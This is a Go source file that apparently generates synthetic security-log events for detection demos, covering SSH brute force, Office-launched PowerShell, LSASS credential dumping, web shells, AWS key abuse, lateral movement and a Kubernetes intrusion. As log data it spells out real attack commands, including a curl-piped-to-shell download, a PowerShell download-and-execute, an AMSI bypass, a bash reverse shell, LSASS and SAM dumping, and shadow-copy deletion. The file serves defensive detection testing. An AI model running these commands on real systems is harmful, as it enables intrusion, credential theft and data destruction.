package demo

import (
	"fmt"
	"time"
)

// Stories lists all attacks.
var Stories = []Story{
	{"ssh brute force, then a login", []string{
		"SSH Failed Password for Root", "SSH Login Attempt for a User That Does Not Exist", "SSH Password Login from a Public Address", "SSH Login as Root",
		"Root Shell Through Sudo", "Download Piped into a Shell", "Password File Read by Command",
	}, (*Player).sshBruteForce},
	{"encoded PowerShell out of Word", []string{
		"Office Program Starts a Shell", "PowerShell with an Encoded Command", "PowerShell Downloads and Runs", "Script Switches AMSI Off", "Microsoft Defender Switched Off by Command",
		"Program Added to a Run Key", "Scheduled Task Runs from a Folder That Users Can Write",
	}, (*Player).encodedPowerShell},
	{"credential dumping", []string{
		"Domain and Privileges Explored by Command", "Suspicious Access to LSASS Memory", "Process Memory Dumped with Comsvcs", "Registry Hive with Credentials Saved", "Thread Started in LSASS",
		"Microsoft Defender Found Malware",
	}, (*Player).credentialDumping},
	{"web shell", []string{
		"Path Traversal in a Web Request", "Request to a Web Shell", "Script Written by a Web Server", "Web Server Starts a Shell", "Domain and Privileges Explored by Command",
	}, (*Player).webShell},
	{"web shell on Linux", []string{
		"Request to a Web Shell", "Web Server Starts a Shell on Linux", "Reverse Shell on Linux", "Severe Suricata Alert",
	}, (*Player).linuxWebShell},
	{"cloud key misuse", []string{
		"Identity Asked For with a Long-Lived Key from a Tool", "Access Key Created", "Administrator Policy Attached", "Windows Password of an Instance Requested",
		"AWS Security Group Opened to Everybody", "GuardDuty Switched Off", "CloudTrail Logging Stopped or Deleted",
	}, (*Player).cloudKeyMisuse},
	{"host agent's reports", []string{
		"Malicious Site Visited", "Malware Report with a High Score", "Malware Found and Still There", "Port of a Backdoor Is Open", "Contact with a Command-and-Control Server",
	}, (*Player).hostReports},
	{"from one host to the next, then ransom", []string{
		"PsExec Service Installed", "Service Installed That Runs a Script or a Temporary File", "Shell Started Through WMI", "Account Added to the Administrators by Command",
		"Shadow Copies Deleted", "Security Event Log Cleared",
	}, (*Player).lateralMovement},
	{"into the cluster", []string{"Access to Secrets Refused", "Command Run in a Pod", "Database Port Used from Outside"}, (*Player).intoTheCluster},
}

// at tells the time some seconds after the story's beginning.
func seconds(start time.Time, n int) time.Time { return start.Add(time.Duration(n) * time.Second) }

func (p *Player) sshBruteForce(start time.Time) []Moment {
	host, from := pick(p, linuxServers), p.outsider()
	var moments []Moment
	for i := range 14 {
		at, port := start.Add(time.Duration(i)*1500*time.Millisecond), 40_000+p.r.IntN(20_000)
		user := []string{"root", "invalid user oracle", "root", "invalid user admin"}[i%4]
		moments = append(moments, journal(at, host, "sshd", fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, from, port)))
	}
	return append(moments,
		journal(seconds(start, 24), host, "sshd", fmt.Sprintf("Accepted password for root from %s port 40999 ssh2", from)),
		journal(seconds(start, 27), host, "sudo", "    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash"),
		encode(seconds(start, 31), object{"type": "EXECVE", "msg": fmt.Sprintf("audit(%d.120:%d):", seconds(start, 31).Unix(), 900+p.r.IntN(90)), "node": host, "argc": "2", "a0": "cat", "a1": "/etc/shadow"}),
		p.startedOnLinux(seconds(start, 36), host, "root", "/bin/sh", "sh -c 'curl -fsSL http://"+from+"/x.sh | sh'", "/bin/bash"))
}

func (p *Player) encodedPowerShell(start time.Time) []Moment {
	who, from := pick(p, people), p.outsider()
	dropped := `C:\Users\` + who.name + `\AppData\Roaming\updater.exe`
	return []Moment{
		p.started(start, who.host, who.account(), word, `"`+word+`" /n "C:\Users\`+who.name+`\Downloads\invoice_4711.docm"`, explorer),
		p.started(seconds(start, 4), who.host, who.account(), powershell, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", word),
		p.started(seconds(start, 8), who.host, who.account(), powershell, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://"+from+"/a.ps1')", powershell),
		sysmon(seconds(start, 9), who.host, 3, object{"Image": powershell, "User": who.account(), "Protocol": "tcp", "Initiated": "true", "SourceIp": who.address, "SourcePort": 50_123, "DestinationIp": from, "DestinationPort": 80}),
		windows(seconds(start, 12), who.host, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, object{
			"MessageNumber": 1, "MessageTotal": 1,
			"ScriptBlockText": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
		}),
		p.started(seconds(start, 17), who.host, who.account(), powershell, `powershell Add-MpPreference -ExclusionPath C:\Users\`+who.name+`\AppData`, powershell),
		sysmon(seconds(start, 21), who.host, 11, object{"Image": powershell, "TargetFilename": dropped, "User": who.account()}),
		sysmon(seconds(start, 24), who.host, 13, object{"Image": powershell, "EventType": "SetValue", "TargetObject": `HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, "Details": dropped, "User": who.account()}),
		p.started(seconds(start, 29), who.host, who.account(), system32+"schtasks.exe", "schtasks /create /f /sc minute /mo 30 /tn Updater /tr "+dropped, powershell),
	}
}

func (p *Player) credentialDumping(start time.Time) []Moment {
	who := pick(p, people)
	tool := `C:\Users\Public\x64.exe`
	return []Moment{
		p.started(start, who.host, who.account(), system32+"whoami.exe", "whoami /priv", cmd),
		p.started(seconds(start, 4), who.host, who.account(), system32+"net.exe", `net group "Domain Admins" /domain`, cmd),
		p.started(seconds(start, 11), who.host, localOS, tool, "x64.exe privilege::debug", cmd),
		sysmon(seconds(start, 12), who.host, 10, object{"SourceImage": tool, "TargetImage": system32 + "lsass.exe", "GrantedAccess": "0x1410", "SourceUser": localOS}),
		sysmon(seconds(start, 14), who.host, 8, object{"SourceImage": tool, "TargetImage": system32 + "lsass.exe", "StartModule": "-", "SourceUser": localOS}),
		windows(seconds(start, 17), who.host, "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116,
			object{"Threat Name": "HackTool:Win32/DemoDump", "Severity Name": "High", "Path": "file:_" + tool, "Detection User": localOS}),
		p.started(seconds(start, 22), who.host, localOS, system32+"rundll32.exe", `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, cmd),
		p.started(seconds(start, 28), who.host, localOS, system32+"reg.exe", `reg save hklm\sam C:\temp\s`, cmd),
	}
}

const scanner = "Mozilla/5.0 (compatible; scan)"

func (p *Player) webShell(start time.Time) []Moment {
	from, pool, server := p.outsider(), `IIS APPPOOL\shop`, system32+`inetsrv\w3wp.exe`
	return []Moment{
		webRequest(start, "iis-1", from, "GET /../../windows/win.ini HTTP/1.1", "400", scanner),
		webRequest(seconds(start, 3), "iis-1", from, "GET /images/..%2f..%2fweb.config HTTP/1.1", "404", scanner),
		webRequest(seconds(start, 9), "iis-1", from, "POST /uploads/avatar.aspx HTTP/1.1", "201", scanner),
		sysmon(seconds(start, 9), "iis-1", 11, object{"Image": server, "TargetFilename": `C:\inetpub\wwwroot\uploads\avatar.aspx`, "User": pool}),
		webRequest(seconds(start, 15), "iis-1", from, "GET /uploads/avatar.aspx?cmd=whoami+/priv HTTP/1.1", "200", "curl/8.5.0"),
		p.started(seconds(start, 15), "iis-1", pool, cmd, "cmd.exe /c whoami /priv", server),
		p.started(seconds(start, 16), "iis-1", pool, system32+"whoami.exe", "whoami /priv", cmd),
		webRequest(seconds(start, 24), "iis-1", from, "GET /uploads/avatar.aspx?cmd=net+user HTTP/1.1", "200", "curl/8.5.0"),
		p.started(seconds(start, 24), "iis-1", pool, cmd, "cmd.exe /c net user", server),
	}
}

func (p *Player) linuxWebShell(start time.Time) []Moment {
	from, host := p.outsider(), pick(p, []string{"web-1", "web-2"})
	return []Moment{
		suricata(start, "alert", from, "10.0.2.30", 80, object{
			"alert": object{"action": "allowed", "signature": "DEMO WEB_SERVER Upload of a PHP script", "signature_id": 1_000_002, "severity": 1, "category": "Web Application Attack"},
			"http":  object{"hostname": "shop.example", "url": "/uploads/a.php", "http_method": "POST"},
		}),
		webRequest(seconds(start, 1), host, from, "POST /uploads/a.php HTTP/1.1", "200", "python-requests/2.31"),
		webRequest(seconds(start, 6), host, from, "GET /uploads/a.php?cmd=id HTTP/1.1", "200", "curl/8.5.0"),
		p.startedOnLinux(seconds(start, 6), host, "www-data", "/bin/sh", "sh -c id", "/usr/sbin/php-fpm8.2"),
		webRequest(seconds(start, 14), host, from, "GET /uploads/a.php?cmd=bash+-c+connect HTTP/1.1", "200", "curl/8.5.0"),
		p.startedOnLinux(seconds(start, 14), host, "www-data", "/bin/bash", "bash -c bash -i >& /dev/tcp/"+from+"/4444 0>&1", "/bin/sh"),
	}
}

func (p *Player) cloudKeyMisuse(start time.Time) []Moment {
	from := p.outsider()
	return []Moment{
		cloudTrail(start, "sts", "GetCallerIdentity", "ci-deploy", from, nil),
		cloudTrail(seconds(start, 4), "iam", "ListUsers", "ci-deploy", from, object{"errorCode": "AccessDenied"}),
		cloudTrail(seconds(start, 9), "iam", "CreateAccessKey", "ci-deploy", from, object{"requestParameters": object{"userName": "backup"}}),
		cloudTrail(seconds(start, 13), "iam", "AttachUserPolicy", "ci-deploy", from, object{"requestParameters": object{"userName": "backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}),
		cloudTrail(seconds(start, 19), "ec2", "AuthorizeSecurityGroupIngress", "backup", from, object{"requestParameters": object{"groupId": "sg-0a1b2c3d", "ipPermissions": object{"items": []object{{"ipProtocol": "tcp", "fromPort": 3389, "toPort": 3389, "ipRanges": object{"items": []object{{"cidrIp": "0.0.0.0/0"}}}}}}}}),
		cloudTrail(seconds(start, 24), "ec2", "GetPasswordData", "ci-deploy", from, object{"errorCode": "Client.UnauthorizedOperation", "requestParameters": object{"instanceId": "i-0123456789abcdef0"}}),
		cloudTrail(seconds(start, 31), "guardduty", "UpdateDetector", "backup", from, object{"requestParameters": object{"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": false}}),
		cloudTrail(seconds(start, 36), "cloudtrail", "StopLogging", "backup", from, object{"requestParameters": object{"name": "main"}}),
	}
}

func (p *Player) hostReports(start time.Time) []Moment {
	who, from := pick(p, people), p.outsider()
	return []Moment{
		report(start, "web_activity", who.host, object{
			"domain": "login-corp.example", "address": from, "port": 443, "browser": "firefox", "url": "https://login-corp.example/session",
			"score": 88, "category": "phishing", "action": "allowed", "user": who.name,
		}),
		report(seconds(start, 7), "malware", who.host, object{
			"file_path": `C:\Users\Public\invoice.exe`, "file_name": "invoice.exe", "file_size": 184_320, "md5": "0cc175b9c0f1b6a831c399e269772661",
			"sha256": p.hash(), "score": 94, "indicators": []string{"packed", "persistence", "network"}, "process": "outlook.exe", "status": "detected",
		}),
		report(seconds(start, 15), "network", who.host, object{
			"port": 4444, "open": true, "service": "unknown", "connection_count": 2, "local_address": who.address + ":4444",
			"remote_address": from + ":51515", "process": "invoice.exe", "scan_duration_ms": 140,
		}),
		report(seconds(start, 22), "web_activity", who.host, object{
			"domain": "cdn-status.example", "address": from, "port": 443, "browser": "invoice.exe", "url": "https://cdn-status.example/beacon",
			"score": 97, "category": "command-and-control", "action": "allowed", "user": who.name,
		}),
	}
}

func (p *Player) lateralMovement(start time.Time) []Moment {
	who := pick(p, people)
	host := pick(p, []string{"files-1", "dc-1", "iis-1"})
	var moments []Moment
	for i := range 4 {
		moments = append(moments, security(seconds(start, i), host, 4625, object{"TargetUserName": "administrator", "TargetDomainName": "CORP", "LogonType": "3", "IpAddress": who.address, "IpPort": "50111", "Status": "0xc000006d"}))
	}
	return append(moments,
		security(seconds(start, 6), host, 4624, object{"TargetUserName": "administrator", "TargetDomainName": "CORP", "LogonType": "3", "IpAddress": who.address, "IpPort": "50115", "AuthenticationPackageName": "NTLM"}),
		serviceInstalled(seconds(start, 9), host, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`),
		serviceInstalled(seconds(start, 14), host, "BTOBTO", `%COMSPEC% /Q /c echo ipconfig ^> \\127.0.0.1\C$\__output 2^>^&1`),
		p.started(seconds(start, 18), host, `CORP\administrator`, cmd, "cmd.exe /Q /c ipconfig /all", system32+`wbem\WmiPrvSE.exe`),
		p.started(seconds(start, 23), host, `CORP\administrator`, system32+"net.exe", "net localgroup administrators support /add", cmd),
		p.started(seconds(start, 31), host, `CORP\administrator`, system32+"vssadmin.exe", "vssadmin delete shadows /all /quiet", cmd),
		windows(seconds(start, 37), host, "Security", "Microsoft-Windows-Eventlog", 1102, object{"SubjectUserName": "administrator", "SubjectDomainName": "CORP"}))
}

func (p *Player) intoTheCluster(start time.Time) []Moment {
	from := p.outsider()
	return []Moment{
		kubernetes(start, from, "list", "secrets", "", "", 403),
		kubernetes(seconds(start, 4), from, "get", "secrets", "", "db-password", 403),
		kubernetes(seconds(start, 11), from, "create", "pods", "exec", "db-0", 101),
		report(seconds(start, 19), "network", "db-1", object{
			"port": 5432, "open": true, "service": "postgresql", "connection_count": 1, "local_address": "10.0.2.40:5432",
			"remote_address": from + ":40222", "process": "postgres", "scan_duration_ms": 61,
		}),
	}
}
